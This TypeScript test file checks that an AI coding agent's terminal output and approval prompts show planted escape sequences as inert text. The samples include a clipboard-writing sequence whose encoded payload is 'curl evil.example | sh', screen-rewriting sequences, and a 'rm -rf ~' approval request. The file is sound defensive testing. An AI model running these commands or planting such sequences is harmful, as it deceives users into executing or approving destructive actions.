// On a plain terminal (exec, and approvals asked there) text from the model and from
// the repository is shown, never obeyed. A terminal obeys escape sequences: OSC 52
// writes the clipboard (a pasted `curl … | sh` later), others rewrite the screen and
// could redraw what an approval question says it grants. Each planted sequence must
// reach the terminal inert.
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { AgentEvent } from '../../src/agent/events.js';
import { plainWriter } from '../../src/modes/exec-output.js';
import { terminalApprover } from '../../src/modes/terminal-approver.js';
import type { ApprovalRequest } from '../../tools/tool.js';

/** Clipboard write, screen clear and cursor home, a line erase after a carriage return, a C1 CSI. */
const PLANTED = ['\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', '\u001b[2J\u001b[H', '\r\u001b[2K', '\u009b31m'];

/** Whether a terminal would obey anything in `text` other than our own colours (none here: NO_COLOR). */
function obeyed(text: string): boolean {
  return /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(text);
}

function tty() {
  const stream = Object.assign(new PassThrough(), { isTTY: true });
  let text = '';
  stream.on('data', (chunk: Buffer) => (text += chunk.toString()));
  return { stream, text: () => text };
}

describe('escape sequences on a plain terminal', () => {
  it.each(PLANTED)('exec shows a tool result, summary, preamble and answer holding %j as text', (sequence) => {
    const stdout = tty();
    const stderr = tty();
    const write = plainWriter(
      { stdout: stdout.stream, stderr: stderr.stream, stdin: new PassThrough(), env: { NO_COLOR: '1' }, cwd: '/' },
      { showReasoning: true },
    );
    const usage = { promptTokens: 1, cachedPromptTokens: 0, outputTokens: 1 } as never;
    const events: AgentEvent[] = [
      { type: 'reasoning.delta', delta: `thinking ${sequence} more` },
      { type: 'preamble.delta', delta: `running ${sequence}` },
      { type: 'tool.call', id: '1', name: 'shell', arguments: {}, summary: `run cat ${sequence}notes.txt` },
      { type: 'tool.result', id: '1', name: 'shell', ok: false, output: `exit 1: ${sequence}boom` } as AgentEvent,
      { type: 'answer.delta', delta: `Done ${sequence}.` },
      { type: 'turn.completed', stopReason: 'answer', answer: '', usage } as AgentEvent,
    ];
    for (const event of events) write(event);
    expect(obeyed(stderr.text())).toBe(false);
    expect(obeyed(stdout.text())).toBe(false);
    expect(stderr.text()).toContain('exit 1:');
  });

  it.each(PLANTED)('an approval question shows the "always" prefix holding %j as text', async (sequence) => {
    const stdin = Object.assign(new PassThrough(), { isTTY: true });
    const stderr = tty();
    const request: ApprovalRequest = {
      tool: 'shell',
      kind: 'exec',
      title: 'Run a command',
      command: `${sequence}rm -rf ~`,
      sandboxed: false,
    };
    const io = { stdin, stderr: stderr.stream, stdout: new PassThrough(), env: { NO_COLOR: '1' }, cwd: '/' };
    const answer = terminalApprover(io)(request, new AbortController().signal);
    await new Promise((resolve) => setImmediate(resolve));
    stdin.write('n\n');
    await new Promise((resolve) => setImmediate(resolve));
    stdin.write('\n');
    expect(await answer).toEqual({ approved: false, feedback: '' });
    // readline's own line editing (cursor to a column, clear below, CRLF) is ours; nothing else may be there.
    expect(obeyed(stderr.text().replace(/\u001b\[\d*G|\u001b\[0J|\r\n/g, ''))).toBe(false);
  });
});
